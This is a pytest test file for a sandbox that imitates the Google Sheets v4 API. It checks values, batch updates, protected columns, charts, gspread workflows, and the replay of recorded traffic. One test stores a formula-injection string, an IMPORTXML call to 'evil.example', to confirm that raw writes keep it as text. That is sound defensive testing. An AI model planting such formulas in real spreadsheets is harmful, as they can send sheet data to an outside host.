"""Sheets v4 in the sandbox, driven over HTTP by the real google-api-python-client and gspread,
and replayed against recordings of real Sheets traffic (tests/sandbox/recordings/)."""

from __future__ import annotations

import json
from typing import Any

import gspread
import pytest
from googleapiclient.errors import HttpError

from careerdocs.sandbox.spreadsheet import PROTECTED_MESSAGE
from tests.conftest import ALICE, BOB, CAROL, SandboxKit
from tests.sandbox import fidelity

pytestmark = pytest.mark.google

RECORDINGS = fidelity.RECORDINGS
SHEETS_HOST = "sheets.googleapis.com"
DRIVE_CREATE = "https://www.googleapis.com/drive/v3/files?"
# Fields whose values the server makes up (ids); the replay maps recorded ones to ours.
ID_FIELDS = frozenset(
    {"spreadsheetId", "sheetId", "namedRangeId", "protectedRangeId", "chartId", "id"}
)
PROTECTED_COLUMN = "C"
ACK_HEADER = ["Date", "Topic", "Acknowledged"]


# -- helpers -----------------------------------------------------------------------------------


def run(kit: SandboxKit, request: Any, user: str = ALICE) -> Any:
    return request.execute(http=kit.http(user))


def error_of(call: Any) -> dict[str, Any]:
    """The JSON error body of a call that must fail."""
    with pytest.raises(HttpError) as caught:
        call()
    return json.loads(caught.value.content)["error"]


def new_spreadsheet(kit: SandboxKit, owner: str = ALICE, **body: Any) -> str:
    body.setdefault("properties", {"title": "Growth plan"})
    return run(kit, kit.sheets.spreadsheets().create(body=body), owner)["spreadsheetId"]


def share(kit: SandboxKit, file_id: str, user: str, role: str = "writer") -> None:
    permission = {"type": "user", "role": role, "emailAddress": user}
    run(
        kit,
        kit.drive.permissions().create(
            fileId=file_id, body=permission, sendNotificationEmail=False
        ),
    )


def values(kit: SandboxKit, sid: str, range_: str, user: str = ALICE, **params: Any) -> Any:
    return run(
        kit, kit.sheets.spreadsheets().values().get(spreadsheetId=sid, range=range_, **params), user
    )


def update(
    kit: SandboxKit,
    sid: str,
    range_: str,
    rows: list[list[Any]],
    user: str = ALICE,
    option: str = "RAW",
) -> Any:
    return run(
        kit,
        kit.sheets.spreadsheets()
        .values()
        .update(spreadsheetId=sid, range=range_, valueInputOption=option, body={"values": rows}),
        user,
    )


def batch(kit: SandboxKit, sid: str, requests: list[dict[str, Any]], user: str = ALICE) -> Any:
    return run(
        kit,
        kit.sheets.spreadsheets().batchUpdate(spreadsheetId=sid, body={"requests": requests}),
        user,
    )


def metadata(kit: SandboxKit, sid: str, user: str = ALICE, **params: Any) -> Any:
    return run(kit, kit.sheets.spreadsheets().get(spreadsheetId=sid, **params), user)


# -- spreadsheets.get and errors ---------------------------------------------------------------


def test_a_new_spreadsheet_answers_the_recorded_shape(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    got = metadata(sandbox, sid)
    assert list(got) == ["spreadsheetId", "properties", "sheets", "spreadsheetUrl"]
    assert list(got["properties"]) == [
        "title",
        "locale",
        "autoRecalc",
        "timeZone",
        "defaultFormat",
        "spreadsheetTheme",
    ]
    assert got["properties"]["title"] == "Growth plan"
    assert got["sheets"] == [
        {
            "properties": {
                "sheetId": 0,
                "title": "Sheet1",
                "index": 0,
                "sheetType": "GRID",
                "gridProperties": {"rowCount": 1000, "columnCount": 26},
            }
        }
    ]
    assert got["spreadsheetUrl"] == f"https://docs.google.com/spreadsheets/d/{sid}/edit"


@pytest.mark.parametrize(
    ("who", "code", "message", "status"),
    [
        ("stranger", 403, "The caller does not have permission", "PERMISSION_DENIED"),
        ("unknown id", 404, "Requested entity was not found.", "NOT_FOUND"),
    ],
)
def test_unshared_and_unknown_spreadsheets_answer_like_sheets(
    sandbox: SandboxKit, who: str, code: int, message: str, status: str
) -> None:
    sid = new_spreadsheet(sandbox) if who == "stranger" else "no-such-spreadsheet"
    error = error_of(lambda: metadata(sandbox, sid, user=BOB))
    assert error == {"code": code, "message": message, "status": status}


def test_a_reader_may_read_but_not_write(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    share(sandbox, sid, BOB, role="reader")
    assert values(sandbox, sid, "A1", user=BOB) == {"range": "Sheet1!A1", "majorDimension": "ROWS"}
    error = error_of(lambda: update(sandbox, sid, "A1", [["x"]], user=BOB))
    assert (error["code"], error["status"]) == (403, "PERMISSION_DENIED")


def test_a_fields_mask_trims_the_resource(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    got = metadata(sandbox, sid, fields="properties.title,sheets.properties(sheetId,title)")
    assert got == {
        "properties": {"title": "Growth plan"},
        "sheets": [{"properties": {"sheetId": 0, "title": "Sheet1"}}],
    }


def test_grid_data_comes_back_for_the_ranges_asked(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    update(sandbox, sid, "B2", [["x", "2026-03-01"]], option="USER_ENTERED")
    got = metadata(sandbox, sid, ranges=["Sheet1!B2:C2"], includeGridData=True)
    [data] = got["sheets"][0]["data"]
    assert data["startRow"] == 1 and data["startColumn"] == 1
    cell = data["rowData"][0]["values"][1]
    assert cell["userEnteredValue"] == {"numberValue": 46082}
    assert cell["formattedValue"] == "2026-03-01"
    assert cell["userEnteredFormat"]["numberFormat"] == {"type": "DATE", "pattern": "yyyy-mm-dd"}


# -- values ------------------------------------------------------------------------------------


def test_raw_keeps_text_and_user_entered_parses_like_the_ui(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    typed = [["=1+1", "12", "TRUE", "2026-03-01"]]
    update(sandbox, sid, "A1", typed, option="RAW")
    update(sandbox, sid, "A2", typed, option="USER_ENTERED")
    unformatted = values(sandbox, sid, "A1:D2", valueRenderOption="UNFORMATTED_VALUE")
    assert unformatted["values"] == [typed[0], ["", 12, True, 46082]]
    formulas = values(sandbox, sid, "A2:D2", valueRenderOption="FORMULA")
    assert formulas["values"] == [["=1+1", 12, True, 46082]]
    formatted = values(sandbox, sid, "A2:D2")
    assert formatted["values"] == [["", "12", "TRUE", "2026-03-01"]]


def test_a_formula_like_name_written_raw_through_gspread_reads_back_as_text(
    sandbox: SandboxKit,
) -> None:
    name = '=IMPORTXML("https://evil.example", "//secret")'
    sheet = sandbox.gspread(ALICE).open_by_key(new_spreadsheet(sandbox)).sheet1
    sheet.update([[name]], "A1", value_input_option=gspread.utils.ValueInputOption.raw)
    assert sheet.acell("A1").value == name
    sheet.update([[name]], "A2", value_input_option=gspread.utils.ValueInputOption.user_entered)
    assert sheet.acell("A2").value is None
    assert sheet.acell("A2", value_render_option="FORMULA").value == name


@pytest.mark.parametrize(
    ("asked", "echoed"),
    [
        ("'Sheet1'!B1", "Sheet1!B1"),
        ("Sheet1!A:A", "Sheet1!A1:A1000"),
        ("A1:B2", "Sheet1!A1:B2"),
        ("Sheet1!1:2", "Sheet1!A1:Z2"),
        ("Sheet1!A5:A", "Sheet1!A5:A1000"),
        ("Sheet1", "Sheet1!A1:Z1000"),
        ("'My plan 🌱'!A:A", "'My plan 🌱'!A1:A10"),
        ("My plan 🌱!B2", "'My plan 🌱'!B2"),
        ("'It''s'", "'It''s'!A1:E5"),
    ],
)
def test_empty_ranges_are_echoed_normalised_without_values(
    sandbox: SandboxKit, asked: str, echoed: str
) -> None:
    sheets = [
        {"properties": {"title": "Sheet1"}},
        {
            "properties": {
                "title": "My plan 🌱",
                "gridProperties": {"rowCount": 10, "columnCount": 10},
            }
        },
        {"properties": {"title": "It's", "gridProperties": {"rowCount": 5, "columnCount": 5}}},
    ]
    sid = new_spreadsheet(sandbox, sheets=sheets)
    assert values(sandbox, sid, asked) == {"range": echoed, "majorDimension": "ROWS"}


def test_an_unparseable_range_is_a_400(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    error = error_of(lambda: values(sandbox, sid, "Nope!A1"))
    assert error == {
        "code": 400,
        "message": "Unable to parse range: Nope!A1",
        "status": "INVALID_ARGUMENT",
    }


def test_writing_past_the_grid_is_refused(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    error = error_of(lambda: update(sandbox, sid, "Sheet1!A1001", [["x"]]))
    assert error == {
        "code": 400,
        "message": "Range (Sheet1!A1001) exceeds grid limits. Max rows: 1000, max columns: 26",
        "status": "INVALID_ARGUMENT",
    }


def test_update_answers_an_update_values_response(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    got = run(
        sandbox,
        sandbox.sheets.spreadsheets()
        .values()
        .update(
            spreadsheetId=sid,
            range="Sheet1!A1:B2",
            valueInputOption="RAW",
            includeValuesInResponse=True,
            body={"values": [["a1", "B2"]]},
        ),
    )
    assert got == {
        "spreadsheetId": sid,
        "updatedRange": "Sheet1!A1:B1",
        "updatedRows": 1,
        "updatedColumns": 2,
        "updatedCells": 2,
        "updatedData": {
            "range": "Sheet1!A1:B1",
            "majorDimension": "ROWS",
            "values": [["a1", "B2"]],
        },
    }


def test_append_writes_after_the_table_and_reports_it(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    update(sandbox, sid, "A1", [ACK_HEADER, ["2026-01-10", "Goals", "FALSE"]])
    got = run(
        sandbox,
        sandbox.sheets.spreadsheets()
        .values()
        .append(
            spreadsheetId=sid,
            range="Sheet1!A:C",
            valueInputOption="USER_ENTERED",
            insertDataOption="INSERT_ROWS",
            body={"values": [["2026-02-01", "Skills", "TRUE"]]},
        ),
    )
    assert got == {
        "spreadsheetId": sid,
        "tableRange": "Sheet1!A1:C2",
        "updates": {
            "spreadsheetId": sid,
            "updatedRange": "Sheet1!A3:C3",
            "updatedRows": 1,
            "updatedColumns": 3,
            "updatedCells": 3,
        },
    }
    assert values(sandbox, sid, "C3", valueRenderOption="UNFORMATTED_VALUE")["values"] == [[True]]


def test_values_batch_update_reports_totals(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    got = run(
        sandbox,
        sandbox.sheets.spreadsheets()
        .values()
        .batchUpdate(
            spreadsheetId=sid,
            body={
                "valueInputOption": "RAW",
                "data": [
                    {"range": "A1", "values": [["a", "b"]]},
                    {"range": "Sheet1!D4", "majorDimension": "COLUMNS", "values": [["c", "d"]]},
                ],
            },
        ),
    )
    assert {k: v for k, v in got.items() if k != "responses"} == {
        "spreadsheetId": sid,
        "totalUpdatedRows": 3,
        "totalUpdatedColumns": 3,
        "totalUpdatedCells": 4,
        "totalUpdatedSheets": 1,
    }
    assert [r["updatedRange"] for r in got["responses"]] == ["Sheet1!A1:B1", "Sheet1!D4:D5"]


def test_values_batch_update_writes_all_or_nothing(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    body = {
        "valueInputOption": "RAW",
        "data": [
            {"range": "A1", "values": [["written?"]]},
            {"range": "Nope!A1", "values": [["x"]]},
        ],
    }
    error = error_of(
        lambda: run(
            sandbox,
            sandbox.sheets.spreadsheets().values().batchUpdate(spreadsheetId=sid, body=body),
        )
    )
    assert error["message"] == "Invalid data[1]: Unable to parse range: Nope!A1"
    assert "values" not in values(sandbox, sid, "A1")


def test_batch_get_clear_and_batch_clear(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    update(sandbox, sid, "A1", [["a", "b", "c"], ["d", "e", "f"]])
    got = run(
        sandbox,
        sandbox.sheets.spreadsheets()
        .values()
        .batchGet(spreadsheetId=sid, ranges=["A:A", "Sheet1!B2"], majorDimension="COLUMNS"),
    )
    assert got["valueRanges"] == [
        {"range": "Sheet1!A1:A1000", "majorDimension": "COLUMNS", "values": [["a", "d"]]},
        {"range": "Sheet1!B2", "majorDimension": "COLUMNS", "values": [["e"]]},
    ]
    cleared = run(
        sandbox,
        sandbox.sheets.spreadsheets().values().clear(spreadsheetId=sid, range="A:A", body={}),
    )
    assert cleared == {"spreadsheetId": sid, "clearedRange": "Sheet1!A1:A1000"}
    many = run(
        sandbox,
        sandbox.sheets.spreadsheets()
        .values()
        .batchClear(spreadsheetId=sid, body={"ranges": ["B1", "Sheet1!C2"]}),
    )
    assert many == {"spreadsheetId": sid, "clearedRanges": ["Sheet1!B1", "Sheet1!C2"]}
    assert values(sandbox, sid, "Sheet1")["values"] == [["", "", "c"], ["", "e"]]


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({}, "'valueInputOption' is required but not specified"),
        (
            {"valueInputOption": "TYPED"},
            "Invalid value at 'value_input_option' "
            '(type.googleapis.com/google.apps.sheets.v4.ValueInputOption), "TYPED"',
        ),
    ],
)
def test_value_input_option_is_required_and_checked(
    sandbox: SandboxKit, params: dict[str, str], message: str
) -> None:
    sid = new_spreadsheet(sandbox)
    session = sandbox.session(ALICE)
    response = session.put(
        f"https://{SHEETS_HOST}/v4/spreadsheets/{sid}/values/A1",
        params=params,
        json={"values": [["x"]]},
    )
    assert response.status_code == 400
    assert response.json()["error"]["message"] == message


# -- spreadsheets.batchUpdate ------------------------------------------------------------------


def test_one_bad_request_and_nothing_in_the_batch_applies(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    requests = [
        {"addSheet": {"properties": {"title": "Conversations"}}},
        {
            "updateCells": {
                "start": {"sheetId": 0},
                "fields": "userEnteredValue",
                "rows": [{"values": [{"userEnteredValue": {"stringValue": "x"}}]}],
            }
        },
        {"deleteSheet": {"sheetId": 12345}},
    ]
    error = error_of(lambda: batch(sandbox, sid, requests))
    assert error == {
        "code": 400,
        "message": "Invalid requests[2].deleteSheet: No grid with id: 12345",
        "status": "INVALID_ARGUMENT",
    }
    got = metadata(sandbox, sid)
    assert [s["properties"]["title"] for s in got["sheets"]] == ["Sheet1"]
    assert "values" not in values(sandbox, sid, "A1")


@pytest.mark.parametrize(
    ("request_", "message"),
    [
        (
            {"frobnicate": {}},
            "Invalid JSON payload received. Unknown name \"frobnicate\" at 'requests[0]': "
            "Cannot find field.",
        ),
        (
            {"addSheet": {"properties": {"title": "sheet1"}}},
            'Invalid requests[0].addSheet: A sheet with the name "sheet1" already exists. '
            "Please enter another name.",
        ),
        (
            {"sortRange": {"range": {"sheetId": 0}}},
            "Invalid requests[0].sortRange: This request is not supported by the sandbox.",
        ),
        (
            {
                "repeatCell": {
                    "range": {"sheetId": 0, "startRowIndex": 1000},
                    "fields": "note",
                    "cell": {"note": "x"},
                }
            },
            "Invalid requests[0].repeatCell: Range (Sheet1!A1001) exceeds grid limits. "
            "Max rows: 1000, max columns: 26",
        ),
    ],
)
def test_invalid_requests_are_named_by_their_place_in_the_batch(
    sandbox: SandboxKit, request_: dict[str, Any], message: str
) -> None:
    sid = new_spreadsheet(sandbox)
    assert error_of(lambda: batch(sandbox, sid, [request_]))["message"] == message


def test_replies_come_one_per_request_and_omit_defaults(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    grid = {
        "sheetId": 0,
        "startRowIndex": 0,
        "endRowIndex": 2,
        "startColumnIndex": 0,
        "endColumnIndex": 2,
    }
    got = batch(
        sandbox,
        sid,
        [
            {
                "updateSpreadsheetProperties": {
                    "properties": {"title": "Renamed"},
                    "fields": "title",
                }
            },
            {"addNamedRange": {"namedRange": {"name": "Goals", "range": grid}}},
            {
                "addSheet": {
                    "properties": {
                        "title": "Conversations",
                        "gridProperties": {"rowCount": 50, "columnCount": 4},
                    }
                }
            },
        ],
    )
    renamed, named, added = got["replies"]
    assert renamed == {}
    assert named["addNamedRange"]["namedRange"]["range"] == {
        "startRowIndex": 0,
        "endRowIndex": 2,
        "startColumnIndex": 0,
        "endColumnIndex": 2,
    }
    properties = added["addSheet"]["properties"]
    assert properties["sheetId"] > 0
    assert properties == {
        "sheetId": properties["sheetId"],
        "title": "Conversations",
        "index": 1,
        "sheetType": "GRID",
        "gridProperties": {"rowCount": 50, "columnCount": 4},
    }
    assert metadata(sandbox, sid)["properties"]["title"] == "Renamed"
    assert run(sandbox, sandbox.drive.files().get(fileId=sid))["name"] == "Renamed"


def test_dimension_and_sheet_property_requests_reshape_the_grid(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    update(sandbox, sid, "A1", [["r1"], ["r2"], ["r3"]])
    batch(
        sandbox,
        sid,
        [
            {
                "insertDimension": {
                    "range": {"sheetId": 0, "dimension": "ROWS", "startIndex": 1, "endIndex": 2}
                }
            },
            {
                "deleteDimension": {
                    "range": {"sheetId": 0, "dimension": "ROWS", "startIndex": 3, "endIndex": 4}
                }
            },
            {"appendDimension": {"sheetId": 0, "dimension": "COLUMNS", "length": 4}},
            {
                "updateSheetProperties": {
                    "properties": {
                        "sheetId": 0,
                        "title": "Plan",
                        "gridProperties": {"frozenRowCount": 1},
                    },
                    "fields": "title,gridProperties.frozenRowCount",
                }
            },
        ],
    )
    assert values(sandbox, sid, "Plan!A1:A4")["values"] == [["r1"], [], ["r2"]]
    grid = metadata(sandbox, sid)["sheets"][0]["properties"]["gridProperties"]
    assert grid == {"rowCount": 1000, "columnCount": 30, "frozenRowCount": 1}


def test_a_checkbox_column_holds_booleans(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    checkbox = {"condition": {"type": "BOOLEAN"}}
    batch(
        sandbox,
        sid,
        [
            {
                "setDataValidation": {
                    "range": {
                        "sheetId": 0,
                        "startRowIndex": 1,
                        "endRowIndex": 5,
                        "startColumnIndex": 2,
                        "endColumnIndex": 3,
                    },
                    "rule": checkbox,
                }
            }
        ],
    )
    update(sandbox, sid, "C2", [["TRUE"], ["false"]], option="USER_ENTERED")
    assert values(sandbox, sid, "C2:C3")["values"] == [["TRUE"], ["FALSE"]]
    got = values(sandbox, sid, "C2:C3", valueRenderOption="UNFORMATTED_VALUE")
    assert got["values"] == [[True], [False]]
    grid = metadata(sandbox, sid, ranges=["C2:C5"], includeGridData=True)
    rows = grid["sheets"][0]["data"][0]["rowData"]
    assert [row["values"][0]["dataValidation"] for row in rows] == [checkbox] * 4


def test_add_chart_replies_with_the_chart_and_shows_it_on_its_sheet(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    source = {
        "sheetId": 0,
        "startRowIndex": 0,
        "endRowIndex": 5,
        "startColumnIndex": 0,
        "endColumnIndex": 1,
    }
    spec = {
        "title": "Acknowledged by department",
        "basicChart": {
            "chartType": "COLUMN",
            "legendPosition": "BOTTOM_LEGEND",
            "headerCount": 1,
            "domains": [{"domain": {"sourceRange": {"sources": [source]}}}],
            "series": [
                {
                    "series": {
                        "sourceRange": {
                            "sources": [dict(source, startColumnIndex=1, endColumnIndex=2)]
                        }
                    },
                    "targetAxis": "LEFT_AXIS",
                }
            ],
        },
    }
    position = {"overlayPosition": {"anchorCell": {"sheetId": 0, "rowIndex": 1, "columnIndex": 4}}}
    reply = batch(sandbox, sid, [{"addChart": {"chart": {"spec": spec, "position": position}}}])
    chart = reply["replies"][0]["addChart"]["chart"]
    assert isinstance(chart["chartId"], int) and chart["chartId"] > 0
    assert chart["spec"]["title"] == "Acknowledged by department"
    assert chart["spec"]["basicChart"]["domains"][0]["domain"]["sourceRange"]["sources"] == [
        {"startRowIndex": 0, "endRowIndex": 5, "startColumnIndex": 0, "endColumnIndex": 1}
    ]
    assert chart["position"]["overlayPosition"]["anchorCell"] == {"rowIndex": 1, "columnIndex": 4}
    [shown] = metadata(sandbox, sid)["sheets"][0]["charts"]
    assert shown["chartId"] == chart["chartId"]


def test_a_chart_without_a_position_gets_a_sheet_of_its_own(sandbox: SandboxKit) -> None:
    sid = new_spreadsheet(sandbox)
    reply = batch(sandbox, sid, [{"addChart": {"chart": {"spec": {"title": "Alone"}}}}])
    chart_sheet = reply["replies"][0]["addChart"]["chart"]["position"]["sheetId"]
    sheets = metadata(sandbox, sid)["sheets"]
    assert [s["properties"]["sheetType"] for s in sheets] == ["GRID", "OBJECT"]
    assert sheets[1]["properties"]["sheetId"] == chart_sheet


# -- protected ranges --------------------------------------------------------------------------


def protected_plan(kit: SandboxKit) -> str:
    """Alice's sheet, shared with Bob (her manager) as writer, whose column C (the
    acknowledgement) is protected with only Alice as editor."""
    sid = new_spreadsheet(kit)
    share(kit, sid, BOB)
    update(kit, sid, "A1", [ACK_HEADER])
    batch(
        kit,
        sid,
        [
            {
                "addProtectedRange": {
                    "protectedRange": {
                        "range": {"sheetId": 0, "startColumnIndex": 2, "endColumnIndex": 3},
                        "description": "Only the team member acknowledges",
                        "editors": {"users": [ALICE]},
                    }
                }
            }
        ],
    )
    return sid


def test_a_protected_column_refuses_a_writer_who_is_not_its_editor(sandbox: SandboxKit) -> None:
    sid = protected_plan(sandbox)
    for cells, rows in (("C2", [["TRUE"]]), ("A2:C2", [["2026-02-01", "Goals", "TRUE"]])):
        error = error_of(lambda c=cells, r=rows: update(sandbox, sid, c, r, user=BOB))
        assert error == {"code": 400, "message": PROTECTED_MESSAGE, "status": "INVALID_ARGUMENT"}
    assert values(sandbox, sid, "A2:C2") == {"range": "Sheet1!A2:C2", "majorDimension": "ROWS"}
    update(sandbox, sid, "A2:B2", [["2026-02-01", "Goals"]], user=BOB)
    update(sandbox, sid, "C2", [[True]], user=ALICE)
    assert values(sandbox, sid, "A2:C2")["values"] == [["2026-02-01", "Goals", "TRUE"]]


def test_gspread_sees_the_refusal_as_an_api_error(sandbox: SandboxKit) -> None:
    sid = protected_plan(sandbox)
    sheet = sandbox.gspread(BOB).open_by_key(sid).sheet1
    with pytest.raises(gspread.exceptions.APIError) as caught:
        sheet.update_acell("C5", "TRUE")
    assert caught.value.code == 400
    assert caught.value.error["message"] == PROTECTED_MESSAGE


def test_every_write_path_honours_the_protection(sandbox: SandboxKit) -> None:
    sid = protected_plan(sandbox)
    column_c = {
        "sheetId": 0,
        "startRowIndex": 1,
        "endRowIndex": 2,
        "startColumnIndex": 2,
        "endColumnIndex": 3,
    }
    attempts = [
        lambda: run(
            sandbox,
            sandbox.sheets.spreadsheets().values().clear(spreadsheetId=sid, range="C1", body={}),
            BOB,
        ),
        lambda: run(
            sandbox,
            sandbox.sheets.spreadsheets()
            .values()
            .append(
                spreadsheetId=sid,
                range="A1",
                valueInputOption="RAW",
                body={"values": [["d", "t", "TRUE"]]},
            ),
            BOB,
        ),
        lambda: batch(
            sandbox,
            sid,
            [{"repeatCell": {"range": column_c, "fields": "note", "cell": {"note": "x"}}}],
            BOB,
        ),
        lambda: batch(
            sandbox,
            sid,
            [
                {
                    "deleteDimension": {
                        "range": {
                            "sheetId": 0,
                            "dimension": "COLUMNS",
                            "startIndex": 2,
                            "endIndex": 3,
                        }
                    }
                }
            ],
            BOB,
        ),
    ]
    for attempt in attempts:
        assert PROTECTED_MESSAGE in error_of(attempt)["message"]
    assert values(sandbox, sid, "Sheet1")["values"] == [ACK_HEADER]


def test_protection_editors_are_shown_only_to_those_who_may_edit(sandbox: SandboxKit) -> None:
    sid = protected_plan(sandbox)
    [as_owner] = metadata(sandbox, sid)["sheets"][0]["protectedRanges"]
    [as_manager] = metadata(sandbox, sid, user=BOB)["sheets"][0]["protectedRanges"]
    assert as_owner["editors"] == {"users": [ALICE]}
    assert as_owner["requestingUserCanEdit"] is True
    assert as_manager == {
        "protectedRangeId": as_owner["protectedRangeId"],
        "range": {"startColumnIndex": 2, "endColumnIndex": 3},
        "description": "Only the team member acknowledges",
    }


def test_only_an_editor_of_the_range_may_change_or_remove_its_protection(
    sandbox: SandboxKit,
) -> None:
    sid = protected_plan(sandbox)
    protected_id = metadata(sandbox, sid)["sheets"][0]["protectedRanges"][0]["protectedRangeId"]
    widen = {
        "updateProtectedRange": {
            "protectedRange": {
                "protectedRangeId": protected_id,
                "editors": {"users": [ALICE, BOB]},
            },
            "fields": "editors",
        }
    }
    remove = {"deleteProtectedRange": {"protectedRangeId": protected_id}}
    for request in (widen, remove):
        kind = next(iter(request))
        error = error_of(lambda r=request: batch(sandbox, sid, [r], user=BOB))
        assert error["message"] == f"Invalid requests[0].{kind}: {PROTECTED_MESSAGE}"
    batch(sandbox, sid, [widen])
    update(sandbox, sid, "C2", [["TRUE"]], user=BOB)
    batch(sandbox, sid, [remove])
    assert "protectedRanges" not in metadata(sandbox, sid)["sheets"][0]


def test_a_writer_may_protect_cells_they_can_edit_and_the_owner_stays_an_editor(
    sandbox: SandboxKit,
) -> None:
    sid = new_spreadsheet(sandbox)
    share(sandbox, sid, CAROL)
    reply = batch(
        sandbox,
        sid,
        [
            {
                "addProtectedRange": {
                    "protectedRange": {
                        "range": {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 1},
                        "editors": {"users": [CAROL]},
                    }
                }
            }
        ],
        user=CAROL,
    )
    added = reply["replies"][0]["addProtectedRange"]["protectedRange"]
    assert added["editors"] == {"users": [ALICE, CAROL]}
    update(sandbox, sid, "A1", [["owner writes"]], user=ALICE)


# -- gspread -----------------------------------------------------------------------------------


def test_a_gspread_worksheet_workflow(sandbox: SandboxKit) -> None:
    book = sandbox.gspread(ALICE).open_by_key(new_spreadsheet(sandbox))
    conversations = book.add_worksheet("Conversations", rows=3, cols=3)
    conversations.update([ACK_HEADER], "A1")
    conversations.append_rows(
        [["2026-01-10", "Goals", True], ["2026-02-01", "Skills", False]],
        value_input_option=gspread.utils.ValueInputOption.user_entered,
    )
    records = conversations.get_all_records()
    assert records == [
        {"Date": "2026-01-10", "Topic": "Goals", "Acknowledged": "TRUE"},
        {"Date": "2026-02-01", "Topic": "Skills", "Acknowledged": "FALSE"},
    ]
    conversations.batch_update([{"range": "B2", "values": [["Career goals"]]}])
    conversations.delete_rows(3)
    conversations.resize(rows=10)
    conversations.batch_clear(["A2"])
    assert conversations.get_all_values()[:2] == [ACK_HEADER, ["", "Career goals", "TRUE"]]
    assert conversations.row_count == 10
    book.sheet1.update_title("Plan")
    book.reorder_worksheets([conversations, book.sheet1])
    assert [w.title for w in book.worksheets()] == ["Conversations", "Plan"]


def test_copy_to_puts_a_copy_of_the_sheet_in_another_spreadsheet(sandbox: SandboxKit) -> None:
    source = new_spreadsheet(sandbox)
    target = new_spreadsheet(sandbox)
    update(sandbox, source, "A1", [["template"]])
    copied = run(
        sandbox,
        sandbox.sheets.spreadsheets()
        .sheets()
        .copyTo(spreadsheetId=source, sheetId=0, body={"destinationSpreadsheetId": target}),
    )
    assert copied["title"] == "Copy of Sheet1" and copied["index"] == 1
    assert values(sandbox, target, "'Copy of Sheet1'!A1")["values"] == [["template"]]


# -- fidelity: replay recorded Sheets traffic --------------------------------------------------

# Recordings whose Sheets traffic the sandbox must reproduce. Left out: test_numeric_value
# (Sheets evaluated "= 1 / 1024"; the sandbox does not evaluate formulas), and recordings whose
# Sheets calls depend on Drive calls this replay does not make (copy, CSV import, listing) or
# on another account's file (test_access_private_spreadsheet).
REPLAYED = [
    "CellTest.test_a1_value",
    "CellTest.test_define_named_range",
    "CellTest.test_delete_named_range",
    "CellTest.test_equality",
    "CellTest.test_merge_cells",
    "CellTest.test_properties",
    "ClientTest.test_access_non_existing_spreadsheet",
    "ClientTest.test_client_export_spreadsheet",
    "SpreadsheetTest.test_add_del_worksheet",
    "SpreadsheetTest.test_get_lastUpdateTime",
    "SpreadsheetTest.test_get_worksheet_by_id",
    "SpreadsheetTest.test_timezone_and_locale",
    "SpreadsheetTest.test_update_title",
    "SpreadsheetTest.test_values_batch_get",
    "SpreadsheetTest.test_values_get",
    "SpreadsheetTest.test_worksheets",
    "SpreadsheetTest.test_worksheets_exclude_hidden",
]


@pytest.mark.parametrize("recording", REPLAYED)
def test_recorded_sheets_traffic_replays_identically(sandbox: SandboxKit, recording: str) -> None:
    """Each recorded Sheets call (and the Drive create before it) is replayed in order; status
    codes and bodies must match, ids aside (each recorded id maps to one id of ours)."""
    cassette = json.loads((RECORDINGS / f"{recording}.json").read_text(encoding="utf-8"))
    session = sandbox.session(ALICE)
    ids: dict[Any, Any] = {}
    for interaction in cassette["interactions"]:
        request, response = interaction["request"], interaction["response"]
        uri = request["uri"]
        if SHEETS_HOST not in uri and not (
            request["method"] == "POST" and uri.startswith(DRIVE_CREATE)
        ):
            continue
        body = request["body"]
        ours = session.request(
            request["method"],
            _mapped(uri, ids),
            data=_mapped(body, ids).encode("utf-8") if body else None,
            headers={"Content-Type": "application/json"} if body else {},
        )
        where = f"{request['method']} {uri}"
        assert ours.status_code == response["status"]["code"], where
        recorded = response["body"]["string"]
        if recorded.strip():
            assert _differences(json.loads(recorded), ours.json(), ids) == [], where


def _mapped(text: str, ids: dict[Any, Any]) -> str:
    for recorded, ours in sorted(ids.items(), key=lambda item: -len(str(item[0]))):
        text = text.replace(str(recorded), str(ours))
    return text


def _differences(recorded: Any, ours: Any, ids: dict[Any, Any], path: str = "") -> list[str]:
    if isinstance(recorded, dict) and isinstance(ours, dict):
        found = (
            [f"{path}: keys differ by {sorted(set(recorded) ^ set(ours))}"]
            if set(recorded) != set(ours)
            else []
        )
        for key in set(recorded) & set(ours):
            if key in ID_FIELDS and not isinstance(recorded[key], (dict, list)):
                if ids.setdefault(recorded[key], ours[key]) != ours[key]:
                    found.append(f"{path}.{key}: {ours[key]} is not the id seen before")
            else:
                found += _differences(recorded[key], ours[key], ids, f"{path}.{key}")
        return found
    if isinstance(recorded, list) and isinstance(ours, list):
        found = (
            [f"{path}: {len(recorded)} items, not {len(ours)}"]
            if len(recorded) != len(ours)
            else []
        )
        for i, (a, b) in enumerate(zip(recorded, ours, strict=False)):
            found += _differences(a, b, ids, f"{path}[{i}]")
        return found
    expected = _mapped(recorded, ids) if isinstance(recorded, str) else recorded
    return [] if expected == ours else [f"{path}: {recorded!r} recorded, {ours!r} now"]
